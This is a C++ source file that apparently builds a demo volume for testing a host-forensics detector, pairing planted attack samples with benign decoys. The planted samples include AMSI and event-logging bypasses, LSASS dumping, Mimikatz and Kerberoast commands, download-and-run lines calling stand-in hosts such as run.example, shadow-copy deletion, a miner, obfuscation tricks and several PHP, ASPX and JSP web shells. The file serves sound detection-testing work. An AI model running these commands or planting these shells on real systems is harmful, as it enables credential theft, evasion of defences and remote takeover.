// Scripts on the volume, pages of a web server, typed commands of PowerShell.
#include "tools/demo/exhibition/exhibition.h"

namespace xiezhi::demo {
namespace {

using enum Role;

struct Script {
    Role role;
    const char* checks;
    const char* path;  // from the volume's root
    const char* text;
};

// clang-format off
constexpr auto kScripts = std::to_array<Script>({
    {Planted, "amsi_bypass", "Scripts/s-amsi.ps1", R"($f = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static'); $f.SetValue($null, $true))"},
    {Planted, "amsi_bypass", "Scripts/s-amsi-patch.ps1", "$a = $k::GetProcAddress($m, 'AmsiScanBuffer'); $k::VirtualProtect($a, 5, 0x40, [ref]$o)"},
    {Decoy, "amsi_bypass", "Scripts/acme-amsi.ps1", R"(# Reports hosts whose log speaks of amsiInitFailed
Get-WinEvent -LogName 'Microsoft-Windows-PowerShell/Operational' | Where-Object Message -match 'amsiInitFailed')"},
    {Planted, "log_cleared_by_script", "Scripts/s-clear.ps1", "Clear-EventLog -LogName Security, System"},
    {Decoy, "log_cleared_by_script", "Scripts/acme-logs.ps1", R"(wevtutil epl Security D:\LogBackup\security.evtx)"},
    {Planted, "lsass_dumped_by_script", "Scripts/s-dump.ps1", R"($id = (Get-Process lsass).Id; rundll32 C:\Windows\System32\comsvcs.dll, MiniDump $id D:\Out\l.dmp full)"},
    {Decoy, "lsass_dumped_by_script", "Scripts/acme-memory.ps1", "Get-Process lsass, svchost | Select-Object Name, WorkingSet64"},
    {Planted, "powershell_attack_tool", "Scripts/s-tool.ps1", "Invoke-Mimikatz -Command 'sekurlsa::tickets'"},
    {Decoy, "powershell_attack_tool", "Scripts/acme-tool.ps1", "Invoke-AcmeInventory -Command tickets"},
    {Planted, "powershell_download", "Scripts/s-web.ps1", "iex ((New-Object Net.WebClient).DownloadString('http://run.example/a.ps1'))"},
    {Decoy, "powershell_download", "Scripts/acme-web.ps1", R"(Invoke-WebRequest https://updates.acme.example/list.csv -OutFile D:\In\list.csv)"},
    {Planted, "powershell_fetches_from_nowhere", "Scripts/s-nowhere.ps1", R"(Invoke-WebRequest http://203.0.113.9/n.zip -OutFile D:\Out\n.zip)"},
    {Planted, "powershell_fetches_from_nowhere", "Scripts/s-paste.ps1", R"(Invoke-RestMethod https://hastebin.com/raw/abcd -OutFile D:\Out\n.txt)"},
    {Decoy, "powershell_fetches_from_nowhere", "Scripts/acme-nowhere.ps1", R"(Invoke-WebRequest http://10.20.0.5/n.zip -OutFile D:\In\n.zip)"},
    {Planted, "powershell_injection", "Scripts/s-inject.ps1", "$m = $k::VirtualAlloc(0, $b.Length, 0x3000, 0x40); $k::CreateThread(0, 0, $m, 0, 0, 0)"},
    {Decoy, "powershell_injection", "Scripts/acme-inject.ps1", "# The agent calls VirtualAlloc for its cache\r\nGet-Counter '\\Process(agent)\\Private Bytes'"},
    {Planted, "powershell_logging_bypass", "Scripts/s-silent.ps1", "$s = [Ref].Assembly.GetType('System.Management.Automation.Utils').GetField('cachedGroupPolicySettings','NonPublic,Static'); $s.SetValue($null, @{})"},
    {Planted, "powershell_logging_bypass", "Scripts/s-silent-value.ps1", R"(Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging' EnableScriptBlockLogging -Value 0)"},
    {Planted, "powershell_logging_bypass", "Scripts/s-silent-patch.ps1", "$a = $k::GetProcAddress($n, 'EtwEventWrite'); $k::VirtualProtect($a, 1, 0x40, [ref]$o)"},
    {Planted, "powershell_logging_bypass", "Scripts/s-silent-provider.ps1", "[Diagnostics.Eventing.EventProvider].GetField('m_enabled','NonPublic,Instance').SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider','NonPublic,Static').GetValue($null),0)"},
    {Decoy, "powershell_logging_bypass", "Scripts/acme-logging.ps1", R"(Set-ItemProperty 'HKLM:\SOFTWARE\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging' EnableScriptBlockLogging -Value 1)"},
    {Planted, "powershell_obfuscated", "Scripts/s-pieces.ps1", R"(& ("{2}{0}{3}{1}{4}"-f 'voke','press','In','-Ex','ion') $x)"},
    {Planted, "powershell_obfuscated", "Scripts/s-sum.ps1", "$a='ab'+'cd'+'ef'+'gh'+'ij'+'kl'+'mn'"},
    {Planted, "powershell_obfuscated", "Scripts/s-chars.ps1", "$a=[char]73+[char]69+[char]88+[char]32+[char]36+[char]97"},
    {Planted, "powershell_obfuscated", "Scripts/s-ticks.ps1", "Inv`OkE-ExpR`EsSi`On $x"},
    {Planted, "powershell_obfuscated", "Scripts/s-unpack.ps1", "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String($b), 0)))).ReadToEnd()"},
    {Planted, "powershell_obfuscated", "Scripts/s-reversed.ps1", "$t = $s[-1..-($s.Length)] -join ''; & $t"},
    {Planted, "powershell_obfuscated", "Scripts/s-xor.ps1", "$t = $b | ForEach-Object { [char]($_ -bxor 35) }; $u = $t -join ''; iex $u"},
    {Planted, "powershell_obfuscated", "Scripts/s-numbers.ps1", "$t = ('73,69,88,32,40,73,69,88,32,40,73,69,88,32,40,73,69,88,32,40,73,69,88,32,40,73,69,88,32,40,73,69,88,32,40,73,69,88,32,40,73,69,88,32,40,73,69,88,32,40,73,69,88,32,40,73,69,88,32,40,73,69,88,32,40,73,69,88,32,40' -split ',')"},
    {Decoy, "powershell_obfuscated", "Scripts/acme-pieces.ps1", R"("{0} of {1} hosts answered in {2} s" -f $n, $all, $seconds)"},
    {Planted, "powershell_profile_code", "Users/li/Documents/WindowsPowerShell/profile.ps1", "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('cGluZw==')) | Out-Null"},
    {Decoy, "powershell_profile_code", "Users/wang/Documents/WindowsPowerShell/profile.ps1", R"(Set-Location D:\Work
Import-Module posh-git)"},
    {Planted, "recovery_inhibited_by_script", "Scripts/s-shadow.ps1", "Get-WmiObject Win32_ShadowCopy | ForEach-Object { $_.Delete() }"},
    {Decoy, "recovery_inhibited_by_script", "Scripts/acme-shadow.ps1", "Get-CimInstance Win32_ShadowCopy | Where-Object { $_.InstallDate -lt (Get-Date).AddDays(-30) } | Remove-CimInstance"},
    {Planted, "host/script_traits", "Users/Public/st.vbs", "Set h = CreateObject(\"MSXML2.XMLHTTP\"): h.Open \"GET\", \"http://run.example/a\", False: h.Send\r\nCreateObject(\"WScript.Shell\").Run h.responseText, 0"},
    {Planted, "host/script_traits", "Scripts/st-miner.bat", "start /b worker.exe -o stratum+tcp://pool.example:3333 --donate-level 1"},
    {Planted, "host/script_traits", "ProgramData/Microsoft/Windows/Start Menu/Programs/Startup/st-start.bat", "certutil -urlcache -split -f http://run.example/a.exe a.exe\r\npowershell -w hidden -c start a.exe"},
    {Planted, "host/script_traits", "ProgramData/st-stay.ps1", "Set-MpPreference -DisableRealtimeMonitoring $true\r\nschtasks /create /tn Update /tr C:\\Tools\\a.exe\r\n(New-Object Net.WebClient).DownloadFile('http://run.example/a', 'a.exe')"},
    {Planted, "host/script_traits", "Scripts/st-shadow.cmd", "vssadmin delete shadows /all /quiet"},
    {Planted, "host/script_traits", "ProgramData/st-blob.ps1", "$b = 'QmFzZTY0IHRleHQgdGhhdCBpcyBsb25nIGVub3VnaCB0byBiZSBhIHBheWxvYWQgYW5kIG5vdCBhIHNldHRpbmcsIGFzIGl0IHN0YW5kcyBpbiBhIHNjcmlwdCB0aGF0IHNvbWVib2R5IGxlZnQgYmVoaW5kIGluIGEgZm9sZGVyIHRoYXQgZXZlcnlib2R5IG1heSB3cml0ZSB0bywgd2l0aG91dCBhIG5hbWU'; IEX([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($b)))"},
    {Decoy, "host/script_traits", "Scripts/st-shadows.cmd", "vssadmin list shadows > D:\\Logs\\shadows.txt"},
    {Decoy, "host/script_traits", "ProgramData/Acme/st-inventory.vbs", "Set n = CreateObject(\"WScript.Network\")\r\nWScript.Echo n.ComputerName & \" \" & n.UserName"},
    {Planted, "host/web_shell", "inetpub/wwwroot/help/w-eval.aspx", R"(<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>)"},
    {Planted, "host/web_shell", "inetpub/wwwroot/help/w-eval.php", "<?php @eval($_POST['x']);?>"},
    {Planted, "host/web_shell", "inetpub/wwwroot/help/w-exec.jsp", R"(<% Runtime.getRuntime().exec(request.getParameter("x")); %>)"},
    {Planted, "host/web_shell", "inetpub/wwwroot/help/w-packed.php", "<?php eval(gzinflate(base64_decode('S0ktS9RQSMrPT9ZQSMvMKUktAgA=')));?>"},
    {Planted, "host/web_shell", "inetpub/wwwroot/help/w-call.php", "<?php $_GET['f']($_POST['x']);?>"},
    {Planted, "host/web_shell", "inetpub/wwwroot/help/w-load.aspx", R"x(<%@ Page Language="C#"%><% System.Reflection.Assembly.Load(Convert.FromBase64String(Request["x"])).CreateInstance("U"); %>)x"},
    {Planted, "host/web_shell", "inetpub/wwwroot/help/w-run.aspx", R"x(<%@ Page Language="C#"%><% var p = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request["x"]); %>)x"},
    {Planted, "host/web_shell", "inetpub/wwwroot/help/w-load.jsp", "<%! class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } %><% request.getReader(); %>"},
    {Planted, "host/web_shell", "inetpub/wwwroot/help/w-known.php", "<?php /* b374k */ $x = 1;?>"},
    {Decoy, "host/web_shell", "inetpub/wwwroot/shop/print.aspx", R"x(<%@ Page Language="C#"%><% var p = new System.Diagnostics.ProcessStartInfo(@"C:\Program Files\Acme\print.exe", "/job"); %>)x"},
    {Decoy, "host/web_shell", "inetpub/wwwroot/shop/order.aspx", R"(<%@ Page Language="C#"%><% Response.Write(Server.HtmlEncode(Request.QueryString["order"])); %>)"},
    {Decoy, "host/web_shell", "inetpub/wwwroot/shop/order.php", "<?php echo htmlspecialchars($_POST['order']);?>"},
});

struct Line {
    Role role;
    const char* checks;
    const char* text;
};
constexpr auto kTyped = std::to_array<Line>({
    {Planted, "powershell_download", "IEX (New-Object Net.WebClient).DownloadString('http://run.example/typed.ps1')"},
    {Planted, "powershell_attack_tool", "Invoke-Kerberoast -OutputFormat Hashcat"},
    {Planted, "recovery_inhibited_by_script", "gwmi Win32_ShadowCopy | % { $_.Delete() }"},
    {Scenery, "", "whoami"},
});
constexpr auto kTypedHonestly = std::to_array<Line>({
    {Decoy, "powershell_download", "Invoke-WebRequest https://updates.acme.example/typed.csv -OutFile typed.csv"},
    {Decoy, "powershell_attack_tool", "Invoke-Command -ComputerName db01 -ScriptBlock { Get-Date }"},
    {Decoy, "recovery_inhibited_by_script", "Get-CimInstance Win32_ShadowCopy | Format-Table InstallDate"},
});
// clang-format on

void put_typed(Stand& stand, const std::string& user, std::span<const Line> lines) {
    const std::string path =
        "Users/" + user +
        "/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt";
    std::string text;
    for (const Line& line : lines) {
        text += std::string(line.text) + "\r\n";
        stand.tell(line.role, line.checks, path, line.text);
    }
    stand.file(path, text);
}

}  // namespace

void exhibit_scripts(const Exhibition& at) {
    for (const Script& script : kScripts) {
        at.exhibit.file(script.path, std::string(script.text) + "\r\n");
        const std::string_view path = script.path;
        at.exhibit.tell(script.role, script.checks, path, path.substr(path.rfind('/') + 1));
    }
    put_typed(at.exhibit, "li", kTyped);
    put_typed(at.exhibit, "wang", kTypedHonestly);
}

}  // namespace xiezhi::demo
